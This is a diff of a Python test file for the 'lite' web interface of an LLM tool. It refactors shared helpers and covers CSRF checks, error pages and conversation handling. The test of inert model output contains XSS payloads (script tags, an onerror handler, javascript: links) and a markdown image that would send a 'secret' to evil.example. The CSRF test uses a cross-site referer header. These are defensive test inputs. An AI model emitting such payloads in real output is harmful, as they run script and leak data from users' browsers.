@@ -17,11 +17,11 @@ import httpx
 import pytest
 
 from llmtool.loopback import LoopbackServer, Scenario
-from llmtool.settings import load_settings
 from llmtool.web.app import create_app
 from llmtool.web.context import AppContext
 from llmtool.web.serve import BackgroundServer
 from tests.helpers import log_in
+from tests.web.support import check_again, make_settings, send_form, state, token
 
 MODEL = "openai:gpt-4.1-mini"
 TEMPLATE = """---
@@ -39,25 +39,10 @@ Plan {{ days }} days in {{ city }} at a {{ pace }} pace{% if museums %}, with mu
 """
 
 
-def make_settings(loopback: LoopbackServer, database: Path, prompts: Path, **overrides):
-    return load_settings(**{
-        "OPENAI_API_KEY": "sk-loopback-secret",
-        "OPENAI_BASE_URL": loopback.openai_base_url,
-        "default_model": "demo:assistant",
-        "database_url": f"sqlite+aiosqlite:///{database}",
-        "prompts_dir": str(prompts),
-        "demo": {"first_token_delay": 0.0, "tokens_per_second": 2_000},
-        "retry": {"max_attempts": 1, "initial_delay": 0.01, "max_delay": 0.05, "jitter": 0.0},
-        "timeouts": {"connect": 2, "first_token": 20, "idle": 20, "total": 30},
-        "store": {"flush_interval": 0.05},
-        **overrides,
-    })
-
-
-@pytest.fixture(scope="module")
-def loopback() -> Iterator[LoopbackServer]:
-    with LoopbackServer() as server:
-        yield server
+def lite_settings(loopback: LoopbackServer, folder: Path, prompts: Path, **overrides):
+    defaults = {"tokens_per_second": 2_000, "max_attempts": 1, "flush_interval": 0.05,
+                "timeouts": {"connect": 2, "first_token": 20, "idle": 20, "total": 30}}
+    return make_settings(loopback, folder, prompts=prompts, **(defaults | overrides))
 
 
 @pytest.fixture(scope="module")
@@ -69,7 +54,7 @@ def prompts(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @pytest.fixture(scope="module")
 def served(loopback: LoopbackServer, prompts: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BackgroundServer]:
-    settings = make_settings(loopback, tmp_path_factory.mktemp("lite") / "runs.db", prompts)
+    settings = lite_settings(loopback, tmp_path_factory.mktemp("lite"), prompts)
     with BackgroundServer(create_app(context=AppContext(settings))) as server:
         warm_model_lists(server)
         yield server
@@ -81,29 +66,8 @@ def warm_model_lists(server: BackgroundServer) -> None:
     assert httpx.get(f"{server.url}/lite", timeout=10).status_code == 200
 
 
-@pytest.fixture
-def upstream(loopback: LoopbackServer) -> LoopbackServer:
-    loopback.reset()
-    return loopback
-
-
-@pytest.fixture
-def browser(served: BackgroundServer) -> Iterator[httpx.Client]:
-    """A client that keeps cookies, like a browser: the form's CSRF token and its cookie go together."""
-    with httpx.Client(base_url=served.url, timeout=10) as client:
-        yield client
-
-
-def token(client: httpx.Client, path: str = "/lite") -> str:
-    page = client.get(path)
-    assert page.status_code == 200, page.text
-    return re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
-
-
 def ask(client: httpx.Client, prompt: str = "Tell me a story", model: str = MODEL, **fields) -> str:
-    answer = client.post("/lite/runs", data={"csrf_token": token(client), "model": model, "prompt": prompt, **fields})
-    assert answer.status_code == 303, answer.text
-    location = answer.headers["location"]
+    location = send_form(client, model=model, prompt=prompt, **fields)
     assert re.fullmatch(r"/lite/runs/[0-9a-f]{12}", location)
     return location
 
@@ -125,21 +89,6 @@ class Elements(HTMLParser):
         return parser.found
 
 
-def state(page: httpx.Response) -> str:
-    return unescape(re.search(r'<p id="state">(.*?)</p>', page.text, re.S).group(1)).strip()
-
-
-def check_again(client: httpx.Client, location: str, until, timeout: float = 10) -> httpx.Response:
-    deadline = time.monotonic() + timeout
-    while True:
-        page = client.get(location)
-        assert page.status_code == 200
-        if until(state(page)):
-            return page
-        assert time.monotonic() < deadline, state(page)
-        time.sleep(0.05)
-
-
 def assert_page_rules(page: httpx.Response) -> None:
     """No timed refresh, one polite status region, our CSP without inline scripts, the headers."""
     assert "http-equiv" not in page.text.lower()
@@ -153,8 +102,8 @@ def assert_page_rules(page: httpx.Response) -> None:
     assert "<script>" not in page.text and "onclick" not in page.text.lower()
 
 
-def test_the_form_lists_usable_models_and_sets_the_csrf_cookie(browser: httpx.Client) -> None:
-    page = browser.get("/lite")
+def test_the_form_lists_usable_models_and_sets_the_csrf_cookie(http: httpx.Client) -> None:
+    page = http.get("/lite")
     assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
     assert '<input type="text" id="model" name="model" value="demo:assistant" list="model-list"' in page.text
     assert '<option value="demo:assistant">' in page.text and f'<option value="{MODEL}">' in page.text  # the datalist
@@ -162,21 +111,21 @@ def test_the_form_lists_usable_models_and_sets_the_csrf_cookie(browser: httpx.Cl
     cookie = page.headers["set-cookie"]
     assert cookie.startswith("llmtool_csrf=") and "HttpOnly" in cookie and "samesite=lax" in cookie.lower()
     assert "http-equiv" not in page.text.lower() and "unsafe-inline" not in page.headers["content-security-policy"]
-    assert browser.get("/lite/", follow_redirects=False).headers["location"] == "/lite"
-    assert browser.get("/lite/runs", follow_redirects=False).headers["location"] == "/lite"
+    assert http.get("/lite/", follow_redirects=False).headers["location"] == "/lite"
+    assert http.get("/lite/runs", follow_redirects=False).headers["location"] == "/lite"
 
 
-def test_form_303_status_page_check_again_until_done(browser: httpx.Client, upstream: LoopbackServer) -> None:
+def test_form_303_status_page_check_again_until_done(http: httpx.Client, upstream: LoopbackServer) -> None:
     upstream.enqueue(Scenario(text="**Bold** start. " + "word " * 40, tokens_per_second=80))
-    location = ask(browser, "Tell me a story")
-    first = browser.get(location)
+    location = ask(http, "Tell me a story")
+    first = http.get(location)
     assert_page_rules(first)
     assert re.fullmatch(r"(Waiting for the first token|Writing…) — \d+ s", state(first))
     assert "Check again" in first.text and "/stop" in first.text and "Your next question" not in first.text
     assert f'<form method="get" action="{location}"' in first.text  # Check again: a plain GET of the page
-    writing = check_again(browser, location, lambda s: s.startswith("Writing…"))
+    writing = check_again(http, location, lambda s: s.startswith("Writing…"))
     assert re.search(r"Writing… — \d+ s", state(writing))
-    done = check_again(browser, location, lambda s: s.startswith("Done"))
+    done = check_again(http, location, lambda s: s.startswith("Done"))
     assert re.fullmatch(r"Done in \d+(\.\d)? s · \d+ tokens(?: · \$\d+\.\d{4}| · no cost)?", state(done)), state(done)
     assert "<strong>Bold</strong>" in done.text  # Markdown rendered on the server
     assert "Check again" not in done.text and "/stop" not in done.text
@@ -185,39 +134,39 @@ def test_form_303_status_page_check_again_until_done(browser: httpx.Client, upst
     assert "sk-loopback-secret" not in done.text
 
 
-def test_stop_cancels_through_the_service_and_redirects_back(browser: httpx.Client, upstream: LoopbackServer) -> None:
+def test_stop_cancels_through_the_service_and_redirects_back(http: httpx.Client, upstream: LoopbackServer) -> None:
     upstream.enqueue(Scenario(kind="stall_before_first_token", stall_seconds=30))
-    location = ask(browser)
-    waiting = check_again(browser, location, lambda s: s.startswith("Waiting for the first token"))
+    location = ask(http)
+    waiting = check_again(http, location, lambda s: s.startswith("Waiting for the first token"))
     assert re.fullmatch(r"Waiting for the first token — \d+ s", state(waiting))
     began = time.monotonic()
-    stop = browser.post(location + "/stop", data={"csrf_token": token(browser)})
+    stop = http.post(location + "/stop", data={"csrf_token": token(http)})
     assert stop.status_code == 303 and stop.headers["location"] == location
     assert time.monotonic() - began < 2.5
-    stopped = browser.get(location)
+    stopped = http.get(location)
     assert state(stopped).startswith("Stopped after")
     upstream.wait_for_requests(1)
     deadline = time.monotonic() + 3
     while upstream.requests[0].closed_at is None and time.monotonic() < deadline:
         time.sleep(0.02)
     assert upstream.requests[0].closed_by_client  # the provider connection was closed
-    again = browser.post(location + "/stop", data={"csrf_token": token(browser)})  # harmless once ended
+    again = http.post(location + "/stop", data={"csrf_token": token(http)})  # harmless once ended
     assert again.status_code == 303
 
 
-def test_the_next_question_continues_the_stored_conversation(browser: httpx.Client, upstream: LoopbackServer) -> None:
+def test_the_next_question_continues_the_stored_conversation(http: httpx.Client, upstream: LoopbackServer) -> None:
     upstream.enqueue(Scenario(text="Paris is the capital of France."), Scenario(text="About two million people."))
-    first = ask(browser, "What is the capital of France?")
-    done = check_again(browser, first, lambda s: s.startswith("Done"))
+    first = ask(http, "What is the capital of France?")
+    done = check_again(http, first, lambda s: s.startswith("Done"))
     conversation = re.search(r'name="conversation_id" value="([^"]+)"', done.text).group(1)
     csrf = re.search(r'name="csrf_token" value="([^"]+)"', done.text).group(1)
-    answer = browser.post("/lite/runs", data={"csrf_token": csrf, "conversation_id": conversation,
+    answer = http.post("/lite/runs", data={"csrf_token": csrf, "conversation_id": conversation,
                                               "after": first.rsplit("/", 1)[1], "model": MODEL,
                                               "prompt": "How many people live there?"})
     assert answer.status_code == 303
     second = answer.headers["location"]
     assert second != first
-    page = check_again(browser, second, lambda s: s.startswith("Done"))
+    page = check_again(http, second, lambda s: s.startswith("Done"))
     # the earlier turn is on the page, then this one
     assert page.text.index("What is the capital of France?") < page.text.index("Paris is the capital") \
         < page.text.index("How many people live there?") < page.text.index("About two million people.")
@@ -225,20 +174,20 @@ def test_the_next_question_continues_the_stored_conversation(browser: httpx.Clie
     assert "What is the capital of France?" in str(sent) and "Paris is the capital of France." in str(sent)
 
 
-def test_a_second_question_while_one_is_pending_is_refused_with_409(browser: httpx.Client, upstream: LoopbackServer) -> None:
+def test_a_second_question_while_one_is_pending_is_refused_with_409(http: httpx.Client, upstream: LoopbackServer) -> None:
     upstream.enqueue(Scenario(text="Done quickly."), Scenario(kind="stall_before_first_token", stall_seconds=30))
-    first = ask(browser, "One")
-    done = check_again(browser, first, lambda s: s.startswith("Done"))
+    first = ask(http, "One")
+    done = check_again(http, first, lambda s: s.startswith("Done"))
     conversation = re.search(r'name="conversation_id" value="([^"]+)"', done.text).group(1)
-    form = {"csrf_token": token(browser), "conversation_id": conversation, "after": first.rsplit("/", 1)[1],
+    form = {"csrf_token": token(http), "conversation_id": conversation, "after": first.rsplit("/", 1)[1],
             "model": MODEL}
-    pending = browser.post("/lite/runs", data={**form, "prompt": "Two"})
+    pending = http.post("/lite/runs", data={**form, "prompt": "Two"})
     assert pending.status_code == 303
-    refused = browser.post("/lite/runs", data={**form, "prompt": "Three"})
+    refused = http.post("/lite/runs", data={**form, "prompt": "Three"})
     assert refused.status_code == 409
     assert "still being written in this conversation" in refused.text and "Traceback" not in refused.text
     assert_page_rules_static(refused)
-    browser.post(pending.headers["location"] + "/stop", data={"csrf_token": form["csrf_token"]})
+    http.post(pending.headers["location"] + "/stop", data={"csrf_token": form["csrf_token"]})
 
 
 def assert_page_rules_static(page: httpx.Response) -> None:
@@ -246,13 +195,13 @@ def assert_page_rules_static(page: httpx.Response) -> None:
     assert page.headers["content-type"].startswith("text/html")
 
 
-def test_unknown_runs_and_conversations_are_404_pages(browser: httpx.Client) -> None:
-    missing = browser.get("/lite/runs/000000000000")
+def test_unknown_runs_and_conversations_are_404_pages(http: httpx.Client) -> None:
+    missing = http.get("/lite/runs/000000000000")
     assert missing.status_code == 404 and "Run not found" in missing.text
     assert_page_rules_static(missing)
-    assert browser.get("/lite/runs/000000000000/part").status_code == 404
-    assert browser.post("/lite/runs/000000000000/stop", data={"csrf_token": token(browser)}).status_code == 404
-    unknown = browser.post("/lite/runs", data={"csrf_token": token(browser), "conversation_id": "nope",
+    assert http.get("/lite/runs/000000000000/part").status_code == 404
+    assert http.post("/lite/runs/000000000000/stop", data={"csrf_token": token(http)}).status_code == 404
+    unknown = http.post("/lite/runs", data={"csrf_token": token(http), "conversation_id": "nope",
                                                "prompt": "Hello", "model": MODEL})
     assert unknown.status_code == 404 and "no such conversation" in unknown.text
 
@@ -264,29 +213,29 @@ def test_unknown_runs_and_conversations_are_404_pages(browser: httpx.Client) -> 
     ("another site by fetch metadata", lambda form, headers: headers.update({"sec-fetch-site": "cross-site"})),
     ("another site by referer", lambda form, headers: headers.update(referer="https://evil.example/page")),
 ])
-def test_csrf_refusals_are_403_pages_and_start_nothing(browser: httpx.Client, upstream: LoopbackServer, case, change) -> None:
-    form = {"csrf_token": token(browser), "model": MODEL, "prompt": "Should not run"}
+def test_csrf_refusals_are_403_pages_and_start_nothing(http: httpx.Client, upstream: LoopbackServer, case, change) -> None:
+    form = {"csrf_token": token(http), "model": MODEL, "prompt": "Should not run"}
     headers: dict[str, str] = {}
     change(form, headers)
-    refused = browser.post("/lite/runs", data=form, headers=headers)
+    refused = http.post("/lite/runs", data=form, headers=headers)
     assert refused.status_code == 403, case
     assert "The form was refused" in refused.text and ("reload the page" in refused.text or "another site" in refused.text)
     assert_page_rules_static(refused)
     assert upstream.requests == []
 
 
-def test_a_form_without_the_cookie_is_refused(served: BackgroundServer, browser: httpx.Client) -> None:
-    form = {"csrf_token": token(browser), "model": MODEL, "prompt": "Hello"}
+def test_a_form_without_the_cookie_is_refused(served: BackgroundServer, http: httpx.Client) -> None:
+    form = {"csrf_token": token(http), "model": MODEL, "prompt": "Hello"}
     with httpx.Client(base_url=served.url, timeout=10) as stranger:  # has the field, not the cookie
         assert stranger.post("/lite/runs", data=form).status_code == 403
 
 
-def test_same_origin_headers_pass(browser: httpx.Client, served: BackgroundServer, upstream: LoopbackServer) -> None:
+def test_same_origin_headers_pass(http: httpx.Client, served: BackgroundServer, upstream: LoopbackServer) -> None:
     headers = {"origin": served.url, "sec-fetch-site": "same-origin", "referer": "null"}
-    answer = browser.post("/lite/runs", data={"csrf_token": token(browser), "model": "demo:assistant",
+    answer = http.post("/lite/runs", data={"csrf_token": token(http), "model": "demo:assistant",
                                               "prompt": "Hi"}, headers=headers)
     assert answer.status_code == 303
-    nulled = browser.post("/lite/runs", data={"csrf_token": token(browser), "model": "demo:assistant",
+    nulled = http.post("/lite/runs", data={"csrf_token": token(http), "model": "demo:assistant",
                                               "prompt": "Hi"}, headers={"origin": "null"})  # no-referrer pages send it
     assert nulled.status_code == 303
 
@@ -299,9 +248,9 @@ def test_same_origin_headers_pass(browser: httpx.Client, served: BackgroundServe
      "demo:assistant is not a reasoning model: leave the reasoning effort unset."),
     ({"prompt": "Keep this text", "reasoning_effort": "enormous"}, "Pick a reasoning effort from the list"),
 ])
-def test_bad_input_rerenders_the_form_with_422_keeping_the_input(browser: httpx.Client, fields, message) -> None:
-    form = {"csrf_token": token(browser), "model": MODEL, **fields}
-    page = browser.post("/lite/runs", data=form)
+def test_bad_input_rerenders_the_form_with_422_keeping_the_input(http: httpx.Client, fields, message) -> None:
+    form = {"csrf_token": token(http), "model": MODEL, **fields}
+    page = http.post("/lite/runs", data=form)
     assert page.status_code == 422 and message in unescape(page.text)
     assert "There is a problem" in page.text and "<title>Error:" in page.text
     assert f">{fields['prompt']}</textarea>" in page.text  # what the user typed is kept
@@ -309,8 +258,8 @@ def test_bad_input_rerenders_the_form_with_422_keeping_the_input(browser: httpx.
     assert_page_rules_static(page)
 
 
-def test_a_template_shows_typed_fields_with_defaults(browser: httpx.Client) -> None:
-    page = browser.get("/lite", params={"template": "trip"})
+def test_a_template_shows_typed_fields_with_defaults(http: httpx.Client) -> None:
+    page = http.get("/lite", params={"template": "trip"})
     assert page.status_code == 200
     text = page.text
     assert '<input type="hidden" name="template" value="trip">' in text
@@ -322,35 +271,35 @@ def test_a_template_shows_typed_fields_with_defaults(browser: httpx.Client) -> N
     assert re.search(r'<input type="checkbox" id="var_museums" name="var_museums" value="true" checked', text)
     for name in ("city", "notes", "days", "budget", "pace", "museums"):
         assert f'<label for="var_{name}">' in text  # every input has its label
-    unknown = browser.get("/lite", params={"template": "nope"})
+    unknown = http.get("/lite", params={"template": "nope"})
     assert unknown.status_code == 422 and "nope" in unescape(unknown.text)
 
 
-def test_a_template_run_and_its_variable_errors(browser: httpx.Client) -> None:
-    base = {"csrf_token": token(browser), "template": "trip", "model": "demo:assistant", "var_notes": "Quiet, please.",
+def test_a_template_run_and_its_variable_errors(http: httpx.Client) -> None:
+    base = {"csrf_token": token(http), "template": "trip", "model": "demo:assistant", "var_notes": "Quiet, please.",
             "var_pace": "slow", "var_budget": ""}
-    bad = browser.post("/lite/runs", data={**base, "var_city": "", "var_days": "three"})
+    bad = http.post("/lite/runs", data={**base, "var_city": "", "var_days": "three"})
     assert bad.status_code == 422
     text = unescape(bad.text)
     assert "Enter city (Where to)" in text and "must be a whole number" in text
     assert "Quiet, please.</textarea>" in text and 'value="three"' in text  # the input is kept
     assert '<option value="slow" selected>' in text
     assert 'aria-invalid="true"' in text and 'href="#var_city"' in text
-    good = browser.post("/lite/runs", data={**base, "var_city": "Lyon", "var_days": "2"})  # museums unticked
+    good = http.post("/lite/runs", data={**base, "var_city": "Lyon", "var_days": "2"})  # museums unticked
     assert good.status_code == 303
-    page = check_again(browser, good.headers["location"], lambda s: s.startswith("Done"))
+    page = check_again(http, good.headers["location"], lambda s: s.startswith("Done"))
     assert "Plan 2 days in Lyon at a slow pace. Quiet, please." in unescape(page.text)
     assert "with museums" not in page.text
 
 
-def test_model_output_is_rendered_inert(browser: httpx.Client, upstream: LoopbackServer) -> None:
+def test_model_output_is_rendered_inert(http: httpx.Client, upstream: LoopbackServer) -> None:
     upstream.enqueue(Scenario(text=(
         "Hi <script>alert('x')</script> and <img src=http://evil.example/a.png onerror=alert(1)> "
         "![leak](http://evil.example/?q=secret) [click](javascript:alert(1)) [ok](https://example.org/) "
         "<a href=\"javascript:alert(2)\">raw</a> sk-loopback-secret"
     )))
-    location = ask(browser, "Be naughty")
-    page = check_again(browser, location, lambda s: s.startswith("Done"))
+    location = ask(http, "Be naughty")
+    page = check_again(http, location, lambda s: s.startswith("Done"))
     answer = re.search(r'<div class="answer" id="answer">(.*?)</div>', page.text, re.S).group(1)
     elements = Elements.of(answer)
     assert {tag for tag, _ in elements} <= {"p", "a", "span"}, elements
@@ -361,14 +310,14 @@ def test_model_output_is_rendered_inert(browser: httpx.Client, upstream: Loopbac
     assert "evil.example/?q=secret" not in answer and "[image: leak]" in answer
     assert '<a href="https://example.org/" rel="noopener noreferrer nofollow">ok</a>' in answer
     assert "sk-loopback-secret" not in page.text  # redacted
-    part = browser.get(location + "/part").json()
+    part = http.get(location + "/part").json()
     assert part["ended"] is True and "<script" not in part["answer_html"] and part["state"].startswith("Done")
 
 
-def test_a_failed_run_says_why_in_a_sentence(browser: httpx.Client, upstream: LoopbackServer) -> None:
+def test_a_failed_run_says_why_in_a_sentence(http: httpx.Client, upstream: LoopbackServer) -> None:
     upstream.enqueue(Scenario(kind="http_error", status=400, error_message="bad things with sk-loopback-secret"))
-    location = ask(browser)
-    page = check_again(browser, location, lambda s: not s.startswith(("Waiting", "Writing")))
+    location = ask(http)
+    page = check_again(http, location, lambda s: not s.startswith(("Waiting", "Writing")))
     assert state(page).startswith("Failed: ") and len(state(page)) > len("Failed: ") + 10
     assert "sk-loopback-secret" not in page.text and "Traceback" not in page.text
     assert "Your next question" in page.text
@@ -377,7 +326,7 @@ def test_a_failed_run_says_why_in_a_sentence(browser: httpx.Client, upstream: Lo
 def test_the_page_estimates_the_time_left_from_the_models_past_runs(loopback: LoopbackServer, prompts: Path,
                                                                    tmp_path: Path) -> None:
     loopback.reset()
-    with BackgroundServer(create_app(context=AppContext(make_settings(loopback, tmp_path / "runs.db", prompts)))) as server, \
+    with BackgroundServer(create_app(context=AppContext(lite_settings(loopback, tmp_path, prompts)))) as server, \
             httpx.Client(base_url=server.url, timeout=10) as client:
         warm_model_lists(server)
         loopback.enqueue(Scenario(kind="stall_before_first_token", stall_seconds=30))
@@ -398,7 +347,7 @@ def test_the_page_estimates_the_time_left_from_the_models_past_runs(loopback: Lo
 
 def test_with_logins_each_user_sees_only_their_runs(loopback: LoopbackServer, prompts: Path, tmp_path: Path) -> None:
     users = {"ann": "pw-ann", "bob": "pw-bob"}
-    context = AppContext(make_settings(loopback, tmp_path / "runs.db", prompts))
+    context = AppContext(lite_settings(loopback, tmp_path, prompts))
     app = create_app(context=context, auth=lambda user, password: users.get(user) == password)
     with BackgroundServer(app) as server:
         anonymous = httpx.get(f"{server.url}/lite?template=classify", timeout=10)
@@ -430,26 +379,26 @@ def test_with_logins_each_user_sees_only_their_runs(loopback: LoopbackServer, pr
             assert refused.status_code == 404, refused.text  # another user's conversation
 
 
-def test_follow_ups_sent_at_once_start_one_run(browser: httpx.Client, upstream: LoopbackServer) -> None:
+def test_follow_ups_sent_at_once_start_one_run(http: httpx.Client, upstream: LoopbackServer) -> None:
     import concurrent.futures
 
     upstream.enqueue(Scenario(text="Done quickly."))
-    first = ask(browser, "One")
-    done = check_again(browser, first, lambda s: s.startswith("Done"))
+    first = ask(http, "One")
+    done = check_again(http, first, lambda s: s.startswith("Done"))
     conversation = re.search(r'name="conversation_id" value="([^"]+)"', done.text).group(1)
-    form = {"csrf_token": token(browser), "conversation_id": conversation, "model": "demo:assistant"}
+    form = {"csrf_token": token(http), "conversation_id": conversation, "model": "demo:assistant"}
     with concurrent.futures.ThreadPoolExecutor(4) as pool:
-        answers = list(pool.map(lambda i: browser.post("/lite/runs", data={**form, "prompt": f"Two {i}"}), range(4)))
+        answers = list(pool.map(lambda i: http.post("/lite/runs", data={**form, "prompt": f"Two {i}"}), range(4)))
     codes = sorted(a.status_code for a in answers)
     assert codes.count(303) == 1 and codes.count(409) == 3, codes
     for answer in answers:
         if answer.status_code == 303:
-            browser.post(answer.headers["location"] + "/stop", data={"csrf_token": form["csrf_token"]})
+            http.post(answer.headers["location"] + "/stop", data={"csrf_token": form["csrf_token"]})
 
 
 def test_the_pages_respect_the_servers_run_limit(loopback: LoopbackServer, prompts: Path, tmp_path: Path) -> None:
-    settings = make_settings(loopback, tmp_path / "runs.db", prompts, ui={"queue_size": 1},
-                             demo={"first_token_delay": 5.0, "tokens_per_second": 10})
+    settings = lite_settings(loopback, tmp_path, prompts, ui={"queue_size": 1}, first_token_delay=5.0,
+                             tokens_per_second=10)
     with BackgroundServer(create_app(context=AppContext(settings))) as server, \
             httpx.Client(base_url=server.url, timeout=10) as client:
         first = ask(client, "One", model="demo:assistant")
@@ -460,12 +409,12 @@ def test_the_pages_respect_the_servers_run_limit(loopback: LoopbackServer, promp
         client.post(first + "/stop", data={"csrf_token": token(client)})
 
 
-def test_buffer_mode_holds_back_an_answer_that_failed_its_rules(browser: httpx.Client, prompts: Path,
+def test_buffer_mode_holds_back_an_answer_that_failed_its_rules(http: httpx.Client, prompts: Path,
                                                                 upstream: LoopbackServer) -> None:
     (prompts / "strict.md").write_text("---\nmodel: demo:echo\noutput: buffer\nvalidation:\n  max_length: 5\n"
                                        "variables:\n  text: {}\n---\n{{ text }}\n")
-    page = browser.post("/lite/runs", data={"csrf_token": token(browser, "/lite?template=strict"),
+    page = http.post("/lite/runs", data={"csrf_token": token(http, "/lite?template=strict"),
                                             "template": "strict", "var_text": "far too long an answer"})
     assert page.status_code == 303, page.text
-    done = check_again(browser, page.headers["location"], lambda s: not s.startswith(("Waiting", "Writing")))
+    done = check_again(http, page.headers["location"], lambda s: not s.startswith(("Waiting", "Writing")))
     assert "far too long an answer" not in done.text.split('id="answer"', 1)[-1].split("</section>", 1)[0]
